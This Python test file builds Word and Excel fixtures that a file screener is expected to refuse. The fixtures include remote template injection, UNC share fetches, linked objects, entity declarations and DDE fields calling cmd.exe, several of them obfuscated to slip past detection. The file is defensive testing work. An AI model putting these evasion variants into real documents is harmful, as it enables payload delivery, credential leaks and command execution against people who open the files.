"""Word documents and Excel sheets that fetch or hold something under a spelling of their own."""

from companies.files.refusals import Reason
from tests.files.making import EXCEL, office

HOLDS = Reason.HOLDS_FILES
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
TEMPLATE = f'Type="{OFFICE}/attachedTemplate" Target="http://x/a.dotm"'


def relation(attributes):
    return f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" {attributes}/></Relationships>'.encode()


def outside(kind, target):
    return relation(f'Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"')


def text(runs):
    return f'<w:document xmlns:w="w"><w:body><w:p>{runs}</w:p></w:body></w:document>'.encode()


def fields(*instructions):
    return text("".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in instructions))


def word(name, body):
    return "a.docx", office(parts={name: body}), HOLDS


def excel(name, body):
    return "a.xlsx", office(EXCEL, parts={name: body}), HOLDS


def cases():
    return [*_templates(), *_relations(), *_parts(), *_fields()]


def _templates():
    of_settings, external = "word/_rels/settings.xml.rels", ' TargetMode="External"'
    quoted = relation(TEMPLATE + external).replace(b'"', b"'")
    spelled = relation(TEMPLATE.replace("Template", "&#84;emplate") + external)
    yield "template in single quotes", *word(of_settings, quoted)
    yield "template in a character reference", *word(of_settings, spelled)
    yield "template in a part in capitals", *word("word/_rels/settings.xml.RELS", relation(TEMPLATE + external))
    far = outside("attachedTemplate", "http://x/a.dotm?" + "".join(f"{n}." for n in range(20_000)))
    yield "template far from its mode", *word(of_settings, far)
    yield "template in UTF-16", *word(of_settings, relation(TEMPLATE + external).decode().encode("utf-16"))
    yield "template of Office Strict", *word(of_settings, relation(TEMPLATE.replace(OFFICE, STRICT) + external))
    yield (
        "template under a prefix",
        *word(
            of_settings,
            relation(TEMPLATE + external)
            .replace(b"<R", b"<p:R", 1)
            .replace(b"xmlns=", b"xmlns:p=")
            .replace(b"<Relationship ", b"<p:Relationship ")
            .replace(b"</R", b"</p:R"),
        ),
    )
    yield "template without a mode", *word(of_settings, relation(TEMPLATE))
    yield "template with a mode in small letters", *word(of_settings, relation(TEMPLATE + ' TargetMode="external"'))


def _relations():
    of_text, of_sheet = "word/_rels/document.xml.rels", "xl/worksheets/_rels/sheet1.xml.rels"
    yield "picture on a share", *word(of_text, outside("image", r"\\x\share\a.png"))
    yield "picture of a page", *word(of_text, outside("image", "http://x/a.png"))
    yield (
        "picture on a share, said to be inside",
        *word(of_text, relation(rf'Type="{OFFICE}/image" Target="\\x\s\a.png"')),
    )
    yield "object linked", *word(of_text, outside("oleObject", "file:///c:/a.xls"))
    yield "object held", *word(of_text, relation(f'Type="{OFFICE}/oleObject" Target="media/image1.png"'))
    yield "frame of a page", *word("word/_rels/webSettings.xml.rels", outside("frame", "http://x/"))
    yield "control", *excel(of_sheet, relation(f'Type="{OFFICE}/control" Target="../a.xml"'))
    yield (
        "sheet of another file",
        *excel("xl/externalLinks/_rels/e.xml.rels", outside("externalLinkPath", "http://x/a.xlsx")),
    )
    yield "relation without a kind", *word(of_text, relation('Target="http://x/" TargetMode="External"'))
    program = relation('Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="media/a.png"')
    yield "macros called a picture", *word(of_text, program)[:2], Reason.MACROS
    yield "relations that are no XML", *word(of_text, b"<Relationships")[:2], Reason.DAMAGED
    declared = b'<!DOCTYPE a [<!ENTITY t "attachedTemplate">]>' + relation(TEMPLATE)
    yield "relations with entities", *word(of_text, declared)[:2], Reason.UNPACKS


def _parts():
    for ending in ("mht", "rtf", "dat", "html", "bin", "docx", "svg", "swf", "xml.exe"):
        yield f"part of another kind, {ending}", *word(f"word/afchunk.{ending}", b"MIME-Version: 1.0")
    chunk = relation(f'Type="{OFFICE}/aFChunk" Target="afchunk.xml"')
    yield "another text taken in", *word("word/_rels/document.xml.rels", chunk)
    yield "place for another text", *word("word/document.xml", text('<w:altChunk r:id="r1"/>'))
    yield "part without an ending", *word("word/media/image1", b"x")
    yield "folder that holds something", *word("word/media/", b"MZ")
    yield "file inside in capitals", *word("word/EMBEDDINGS/a.xml", b"<x/>")
    yield "two parts that differ in capitals", *word("WORD/document.xml", b"<x/>")[:2], Reason.CONTENT
    drawing = rb'<xml><v:imagedata src="&#92;\x\share\a.png"><br></xml>'
    yield "drawing that fetches a picture", *excel("xl/drawings/vmlDrawing1.vml", drawing)
    yield "text that fetches a picture", *word("word/document.xml", text('<v:imagedata src="http://x/a.png"/>'))


def _fields():
    for number, runs in enumerate([("DDEA", "UTO c:\\cmd.exe"), ("D", "D", "E c:\\cmd.exe"), (" dde&#65;uto c:\\x",)]):
        yield f"DDE in runs {number}", *word("word/footer1.xml", fields(*runs))
    after = text("<w:r><w:instrText>PAGE</w:instrText><w:fldChar/><w:instrText>DDE c:\\x</w:instrText></w:r>")
    yield "DDE after a harmless field", *word("word/document.xml", after)
    yield "DDE in a simple field", *word("word/document.xml", text("<w:fldSimple w:instr='DDEAUTO c:\\x'/>"))
    yield "text of another file", *word("word/document.xml", fields("INCLUDETEXT ", '"http://x/a.docx"'))
    yield "picture by a field", *word("word/document.xml", fields(r'INCLUDEPICTURE "\\\\x\\a.png"'))
